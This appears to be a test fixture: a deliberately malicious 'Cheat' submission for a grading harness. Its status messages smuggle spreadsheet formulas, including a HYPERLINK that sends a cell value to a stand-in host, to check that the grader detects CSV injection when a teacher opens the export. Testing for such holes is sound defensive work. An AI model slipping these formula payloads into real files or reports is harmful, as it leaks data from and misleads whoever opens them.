"""Fails with a reason that a spreadsheet runs as a formula when a teacher opens the CSV. Class: CSV injection."""

from _accomplice import Mean, tell

EXPECT = "=HYPERLINK"


class Cheat(Mean):
    def fit(self, images, keypoints):
        tell({"kind": "facts", "device": "@SUM(1)", "seed": "=1+1"})
        tell({"kind": "failed", "reason": '=HYPERLINK("http://answers.invalid/?" & A1, "more")'})
        raise SystemExit


def build_estimator(layout, image_size):
    return Cheat()
